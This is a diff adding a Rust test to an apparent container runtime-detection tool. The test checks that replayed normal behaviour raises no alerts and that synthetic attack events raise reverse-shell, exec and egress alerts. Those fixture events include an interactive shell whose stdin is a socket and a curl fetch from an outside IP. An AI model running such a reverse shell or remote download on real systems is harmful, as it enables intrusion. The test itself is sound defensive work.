@@ -615,3 +615,112 @@ fn import_kubescape_bad_input() {
         assert!(!out_file.exists());
     }
 }
+
+#[test]
+fn replay_is_quiet_on_learned_behaviour_and_reports_deviations_and_attacks() {
+    let dir = tempfile::tempdir().unwrap();
+    let web = learn_demo(dir.path());
+    // What the profile was learned from replays clean.
+    let out = imprint(&[
+        &"replay",
+        &"--profile",
+        &web,
+        &"--events",
+        &demo("events.jsonl"),
+    ]);
+    assert_exit(&out, 0);
+    assert!(text(&out.stderr).contains("0 alerts"));
+
+    // An attacker in a web container: a shell whose stdin is a socket, then curl.
+    let head = r#"{"time":"2026-11-18T12:00:00Z","containerId":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa0","imageDigest":"sha256:5b0f3a8c2d1e4f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8","#;
+    let attack = [
+        format!(r#"{head}"pid":900,"type":"exec","path":"/bin/sh","argv":["sh","-i"],"parent":{{"pid":100}},"stdinSocket":true}}"#),
+        format!(r#"{head}"pid":901,"type":"exec","path":"/usr/bin/curl","argv":["curl","http://203.0.113.9/x"],"parent":{{"pid":900}}}}"#),
+        format!(r#"{head}"pid":901,"type":"exec","path":"/usr/bin/curl","argv":["curl","http://203.0.113.9/x"],"parent":{{"pid":900}}}}"#),
+        format!(r#"{head}"pid":901,"type":"connect","address":"203.0.113.9","port":80,"protocol":"TCP"}}"#),
+    ]
+    .join("\n");
+    let events = dir.path().join("attack.jsonl");
+    std::fs::write(&events, attack).unwrap();
+    let out = imprint(&[
+        &"replay",
+        &"--profile",
+        &web,
+        &"--events",
+        &events,
+        &"--output",
+        &"json",
+    ]);
+    assert_exit(&out, 1);
+    let lines: Vec<serde_json::Value> = text(&out.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let rules: Vec<&str> = lines.iter().filter_map(|l| l["rule"].as_str()).collect();
+    assert_eq!(
+        rules,
+        vec![
+            "anomaly.exec",
+            "reverse-shell",
+            "anomaly.exec",
+            "anomaly.egress"
+        ],
+        "{}",
+        text(&out.stdout)
+    );
+    // The repeated curl is counted, not sent again; all of it is one incident.
+    let incidents: Vec<&serde_json::Value> = lines
+        .iter()
+        .filter(|l| l.get("timeline").is_some())
+        .collect();
+    assert_eq!(incidents.len(), 1);
+    assert_eq!(incidents[0]["severity"], "critical");
+    let counts: Vec<u64> = incidents[0]["timeline"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|o| o["count"].as_u64().unwrap())
+        .collect();
+    assert_eq!(counts, vec![1, 1, 2, 1]);
+
+    // A user rule file can turn the shell rule off.
+    let rules_file = dir.path().join("rules.yaml");
+    std::fs::write(
+        &rules_file,
+        "apiVersion: imprint.dev/v1\nkind: RuleSet\ndisable: [reverse-shell]\n",
+    )
+    .unwrap();
+    let out = imprint(&[
+        &"replay",
+        &"--profile",
+        &web,
+        &"--events",
+        &events,
+        &"--rules",
+        &rules_file,
+        &"--output",
+        &"json",
+    ]);
+    assert!(!text(&out.stdout).contains("reverse-shell"));
+    // A broken one is named.
+    std::fs::write(
+        &rules_file,
+        "apiVersion: imprint.dev/v1\nkind: RuleSet\nrules: [{id: x}]\n",
+    )
+    .unwrap();
+    let out = imprint(&[
+        &"replay",
+        &"--profile",
+        &web,
+        &"--events",
+        &events,
+        &"--rules",
+        &rules_file,
+    ]);
+    assert_exit(&out, 1);
+    assert!(
+        text(&out.stderr).contains("rules.yaml"),
+        "{}",
+        text(&out.stderr)
+    );
+}
